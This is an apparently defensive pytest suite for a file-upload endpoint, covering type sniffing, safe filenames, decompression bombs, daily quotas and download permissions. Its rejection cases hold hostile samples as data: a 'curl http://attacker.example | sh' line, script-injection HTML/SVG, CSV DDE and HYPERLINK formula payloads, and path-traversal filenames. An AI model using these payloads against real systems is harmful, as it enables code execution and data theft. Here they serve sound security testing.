"""Uploads are what they claim to be, named safely, capped per user and day, and downloaded
only by those who may read what they are attached to."""

import asyncio
import datetime as dt
from urllib.parse import quote

import pytest
from sqlalchemy import text

from schema.core import ids
from tests import files
from tests.factories import bearer, make_community, make_user
from tests.graphql import gql, mutate
from tests.schema.lifecycle.operations import (
    IMPORT,
    OPEN_CALL,
    SCHEDULE,
    SUBMIT_APPLICATION,
    application,
)
from tests.state import row_counts

BEIJING = dt.timezone(dt.timedelta(hours=8))
NODE = "query ($id: ID!) { node(id: $id) { ... on Upload { filename } } }"


@pytest.fixture
async def uploader(runtime) -> dict[str, str]:
    _, token = await make_user(runtime, "uploader@example.cn")
    return bearer(token)


async def post(client, headers, data: bytes, name: str = "f", **extra):
    return await client.post(
        "/uploads", content=data, headers={**headers, "X-Filename": name, **extra}
    )


@pytest.mark.parametrize(
    "body",
    [
        b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        b"#!/bin/sh\ncurl http://attacker.example | sh\n",
        b"name,note\nx,<script>fetch('/graphql')</script>\n",
        b"%PDF-1.4\n<html><script>alert(1)</script></html>\n",
        b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
        files.pdf_with_javascript(),
        files.pdf_with_javascript(escaped=True),
        files.pdf_with_attachment(),
        files.ooxml("[Content_Types].xml", "payload.exe"),
        files.ooxml("word/document.xml"),
        files.ooxml("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"),
        b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script></html>",
        b"\xff\xd8\xff\xe0<html></html>",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
        '单位,备注\n西湖区,"=HYPERLINK(""http://attacker.example"",""详情"")"\n'.encode(),
        b"unit,note\nx,@SUM(1+1)*cmd|' /C calc'!A0\n",
        b"unit,note\nx,-2+3+cmd|' /C calc'!A0\n",
        b"a,b,c\n1,2\n3,4,5,6\n",
        "单位,状态\n".encode("gb18030"),
    ],
    ids=[
        "html",
        "svg-with-script",
        "shell-script",
        "csv-carrying-script",
        "pdf-header-then-html",
        "pdf-without-pages",
        "pdf-running-javascript",
        "pdf-running-escaped-javascript",
        "pdf-carrying-a-file",
        "zip-without-main-part",
        "zip-without-content-types",
        "office-with-macros",
        "png-header-then-html",
        "jpeg-header-then-html",
        "broken-ole",
        "csv-hyperlink-formula",
        "csv-at-formula",
        "csv-dde-formula-after-a-number",
        "ragged-csv",
        "gb18030-text",
    ],
)
async def test_a_file_that_only_looks_like_evidence_is_refused(client, uploader, owner, body):
    before = await row_counts(owner)

    response = await post(client, uploader, body, "evidence.csv")
    english = await post(client, uploader, body, "evidence.csv", **{"Accept-Language": "en"})

    assert response.status_code == 400, response.text
    error = response.json()["errors"][0]
    assert error["extensions"]["code"] == "INVALID_INPUT"
    assert any("\u4e00" <= c <= "\u9fff" for c in error["message"])
    assert english.json()["errors"][0]["message"].isascii()
    assert await row_counts(owner) == before


async def test_an_image_of_more_than_fifty_megapixels_is_refused(client, uploader, owner):
    before = await row_counts(owner)
    bomb = files.huge_image(8000, 6300)  # 50.4 megapixels in a few kilobytes

    response = await post(client, uploader, bomb, "bomb.png", **{"Accept-Language": "en"})

    assert len(bomb) < 100_000
    assert response.status_code == 400, response.text
    assert "50 megapixels" in response.json()["errors"][0]["message"]
    assert await row_counts(owner) == before


async def test_an_office_file_that_inflates_past_two_hundred_mib_is_refused(client, uploader):
    bomb = files.expanding_docx(201 * 1024 * 1024)

    response = await post(client, uploader, bomb, "bomb.docx", **{"Accept-Language": "en"})

    assert len(bomb) < 1024 * 1024
    assert response.status_code == 400, response.text
    assert "expands" in response.json()["errors"][0]["message"]


@pytest.mark.parametrize(
    ("body", "name", "content_type"),
    [
        (files.pdf(), "consent.pdf", "application/pdf"),
        (files.image("PNG"), "plaque.png", "image/png"),
        (files.image("JPEG"), "photo.jpg", "image/jpeg"),
        (
            files.xlsx(),
            "sheet.xlsx",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        (
            files.docx(),
            "plan.docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (files.xls(), "签到表.xls", "application/vnd.ms-excel"),
        ("单位名称,出勤情况\n西湖区社区学院,出席\n\n".encode(), "签到表.csv", "text/csv"),
        (
            "单位,电话,得分,备注\n西湖区,+86 138 0000 0000,-3.5,-\n上城区,0571-1234,+2,-无\n".encode(),
            "通讯录.csv",
            "text/csv",
        ),
    ],
    ids=["pdf", "png", "jpeg", "xlsx", "docx", "xls", "csv", "csv-with-signed-values"],
)
async def test_real_files_are_kept_with_the_type_their_bytes_have(
    client, uploader, body, name, content_type
):
    response = await post(client, uploader, body, quote(name))

    assert response.status_code == 201, response.text
    assert response.json()["contentType"] == content_type
    assert response.json()["filename"] == name


async def test_a_windows_path_is_kept_as_a_plain_name(client, uploader, runtime, owner):
    response = await post(client, uploader, b"a,b\n1,2\n", quote("..\\..\\windows\\win.ini"))

    assert response.status_code == 201, response.text
    assert response.json()["filename"] == "win.ini.csv"
    async with owner.connect() as conn:
        key = (await conn.execute(text("SELECT storage_key FROM uploads"))).scalar_one()
    sha256 = response.json()["sha256"]
    assert key == f"{sha256[:2]}/{sha256}"
    assert not list(runtime.settings.resolved_data_dir.rglob("win.ini*"))


@pytest.mark.parametrize(
    ("header", "shown"),
    [
        ("evil%00.pdf", "evil.pdf"),
        ("report%00.pdf.exe", "report.pdf.exe.pdf"),
        ("%E6%8A%A5%E5%91%8A%E2%80%AEfdp.exe", "报告fdp.exe.pdf"),
        ("%2Fetc%2Fpasswd", "passwd.pdf"),
        ("..", "upload.pdf"),
        ("a" * 300 + ".pdf", "a" * 196 + ".pdf"),
    ],
    ids=["nul", "nul-before-a-second-extension", "bidi-override", "absolute-path", "dots", "long"],
)
async def test_an_unsafe_name_is_shown_safely(client, uploader, header, shown):
    response = await post(client, uploader, files.pdf(), header)

    assert response.status_code == 201, response.text
    assert response.json()["filename"] == shown


async def insert_uploads(owner, user_email: str, sizes: list[int], at: dt.datetime) -> None:
    async with owner.begin() as conn:
        user_id = (
            await conn.execute(text("SELECT id FROM users WHERE email = :e"), {"e": user_email})
        ).scalar_one()
        for size in sizes:
            await conn.execute(
                text(
                    "INSERT INTO uploads (owner_user_id, filename, content_type, size, sha256,"
                    " storage_key, created_at) VALUES (:u, 'earlier.pdf', 'application/pdf',"
                    " :s, :h, :k, :t)"
                ),
                {"u": user_id, "s": size, "h": "0" * 64, "k": "00/" + "0" * 64, "t": at},
            )


def beijing_midnight() -> dt.datetime:
    return dt.datetime.now(BEIJING).replace(hour=0, minute=0, second=0, microsecond=0)


async def test_the_two_hundred_and_first_file_of_a_day_is_refused(client, uploader, owner):
    await insert_uploads(owner, "uploader@example.cn", [1000] * 200, beijing_midnight())

    response = await post(client, uploader, files.pdf(), "one-more.pdf")
    english = await post(client, uploader, files.pdf(), "x.pdf", **{"Accept-Language": "en"})

    assert response.status_code == 429, response.text
    assert response.json()["errors"][0]["extensions"]["code"] == "RATE_LIMITED"
    assert "200" in response.json()["errors"][0]["message"]
    assert "tomorrow" in english.json()["errors"][0]["message"]
    seconds_to_midnight = (beijing_midnight() + dt.timedelta(days=1)) - dt.datetime.now(BEIJING)
    assert 0 < int(response.headers["Retry-After"]) <= seconds_to_midnight.total_seconds() + 2


async def test_yesterdays_uploads_do_not_count_against_today(client, uploader, owner):
    yesterday = beijing_midnight() - dt.timedelta(seconds=1)
    await insert_uploads(owner, "uploader@example.cn", [1000] * 200, yesterday)
    await insert_uploads(owner, "uploader@example.cn", [1000] * 199, beijing_midnight())

    response = await post(client, uploader, files.pdf(), "the-200th.pdf")

    assert response.status_code == 201, response.text


async def test_a_file_that_would_pass_two_hundred_mib_a_day_is_refused(client, uploader, owner):
    await insert_uploads(
        owner, "uploader@example.cn", [200 * 1024 * 1024 - 100], beijing_midnight()
    )

    fits = await post(client, uploader, b"a,b\n1,2\n", "small.csv")  # 8 bytes
    too_much = await post(client, uploader, files.pdf(), "x.pdf")

    assert fits.status_code == 201, fits.text
    assert too_much.status_code == 429, too_much.text
    assert too_much.json()["errors"][0]["extensions"]["code"] == "RATE_LIMITED"


async def test_concurrent_uploads_cannot_pass_the_quota_together(client, uploader, owner):
    await insert_uploads(owner, "uploader@example.cn", [1000] * 199, beijing_midnight())

    responses = await asyncio.gather(
        *(post(client, uploader, f"n,i\nburst,{i}\n".encode(), f"{i}.csv") for i in range(5))
    )

    assert sorted(r.status_code for r in responses) == [201, 429, 429, 429, 429]


async def test_the_quota_is_one_users(client, uploader, runtime, owner):
    await insert_uploads(owner, "uploader@example.cn", [1000] * 200, beijing_midnight())
    _, token = await make_user(runtime, "someone@example.cn")

    response = await post(client, bearer(token), files.pdf(), "mine.pdf")

    assert response.status_code == 201, response.text


async def test_the_uploader_downloads_the_file_as_an_attachment(client, uploader):
    body = files.pdf()
    uploaded = await post(client, uploader, body, quote("同意书.pdf"))

    response = await client.get(f"/uploads/{uploaded.json()['id']}", headers=uploader)

    assert response.status_code == 200, response.text
    assert response.content == body
    assert response.headers["content-type"] == "application/pdf"
    assert response.headers["content-disposition"] == (
        "attachment; filename=\"___.pdf\"; filename*=UTF-8''%E5%90%8C%E6%84%8F%E4%B9%A6.pdf"
    )
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["cache-control"].startswith("private")


async def test_a_csv_is_downloaded_as_csv_never_as_a_page(client, uploader):
    uploaded = await post(client, uploader, b"a,b\n1,2\n", "page.html")

    response = await client.get(f"/uploads/{uploaded.json()['id']}", headers=uploader)

    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"].startswith(
        'attachment; filename="page.html.csv"'
    )
    assert response.headers["x-content-type-options"] == "nosniff"


async def evidence(client, runtime, uploader) -> str:
    """An upload attached to the uploader's application as evidence; its id."""
    _, pg_token = await make_user(runtime, "pg@example.cn", ("PROJECT_GROUP", None))
    now = dt.date.today()
    call = await mutate(
        client,
        OPEN_CALL,
        {
            "input": {
                "title": "项目实验点申报",
                "year": now.year,
                "opensOn": (now - dt.timedelta(days=10)).isoformat(),
                "closesOn": (now + dt.timedelta(days=10)).isoformat(),
            }
        },
        headers=bearer(pg_token),
    )
    upload_id = (await post(client, uploader, files.pdf(), "consent.pdf")).json()["id"]
    answers = application(call["call"]["id"], "西湖区社区学院", "330106")
    answers["conditions"][1]["uploadId"] = upload_id
    await mutate(client, SUBMIT_APPLICATION, {"input": answers}, headers=uploader)
    return upload_id


async def test_the_project_group_reads_an_applications_evidence(client, runtime, uploader):
    upload_id = await evidence(client, runtime, uploader)
    _, token = await make_user(runtime, "reviewer@example.cn", ("PROJECT_GROUP", None))

    response = await client.get(f"/uploads/{upload_id}", headers=bearer(token))

    assert response.status_code == 200, response.text
    assert response.content.startswith(b"%PDF-")


async def test_another_communitys_leader_is_told_the_file_does_not_exist(client, runtime, uploader):
    upload_id = await evidence(client, runtime, uploader)
    community, _ = await make_community(runtime, "elsewhere")
    _, token = await make_user(runtime, "leader@example.cn", ("LEADER", community.id))

    response = await client.get(f"/uploads/{upload_id}", headers=bearer(token))
    missing = await client.get(f"/uploads/{ids.encode('Upload', 999999)}", headers=bearer(token))
    node = await gql(client, NODE, {"id": upload_id}, headers=bearer(token))

    assert response.status_code == 404
    assert response.json() == missing.json()
    assert response.json()["errors"][0]["extensions"]["code"] == "NOT_FOUND"
    assert "consent" not in response.text
    assert node["data"]["node"] is None


async def test_nobody_signed_in_downloads_nothing(client, runtime, uploader):
    upload_id = await evidence(client, runtime, uploader)

    response = await client.get(f"/uploads/{upload_id}")

    assert response.status_code == 401
    assert response.json()["errors"][0]["extensions"]["code"] == "UNAUTHENTICATED"
    assert b"%PDF" not in response.content


async def imported_sheet(client, runtime) -> tuple[int, str]:
    """A community whose leader imported a sign-in sheet for one of its activities: the
    community's id and the sheet's upload id."""
    community, units = await make_community(runtime, "yrd", size=3)
    _, token = await make_user(runtime, "leader@example.cn", ("LEADER", community.id))
    leader = bearer(token)
    activity = await mutate(
        client,
        SCHEDULE,
        {
            "input": {
                "communitySlug": "yrd",
                "kind": "SEMINAR",
                "title": "研讨会",
                "heldOn": (dt.date.today() - dt.timedelta(days=2)).isoformat(),
            }
        },
        headers=leader,
    )
    sheet = f"单位名称,出勤情况\n{units[1].name},出席\n".encode()
    upload_id = (await post(client, leader, sheet, quote("签到表.csv"))).json()["id"]
    imported = await mutate(
        client,
        IMPORT,
        {"input": {"activityId": activity["activity"]["id"], "uploadId": upload_id}},
        headers=leader,
    )
    assert imported["accepted"] == 1
    return community.id, upload_id


@pytest.mark.parametrize(
    ("role", "status"),
    [("DEPUTY", 200), ("LEADER", 200), ("MEMBER", 404), ("EXPERT_ASSIGNED", 404)],
)
async def test_a_sign_in_sheet_is_read_by_those_who_record_the_communitys_attendance(
    client, runtime, role, status
):
    community_id, upload_id = await imported_sheet(client, runtime)
    _, token = await make_user(runtime, "colleague@example.cn", (role, community_id))

    response = await client.get(f"/uploads/{upload_id}", headers=bearer(token))

    assert response.status_code == status, response.text
    if status == 200:
        assert response.content.decode().startswith("单位名称,出勤情况")


async def test_another_communitys_leader_cannot_read_a_sign_in_sheet(client, runtime):
    _, upload_id = await imported_sheet(client, runtime)
    other, _ = await make_community(runtime, "elsewhere")
    _, token = await make_user(runtime, "other-leader@example.cn", ("LEADER", other.id))

    response = await client.get(f"/uploads/{upload_id}", headers=bearer(token))
    node = await gql(client, NODE, {"id": upload_id}, headers=bearer(token))

    assert response.status_code == 404
    assert node["data"]["node"] is None
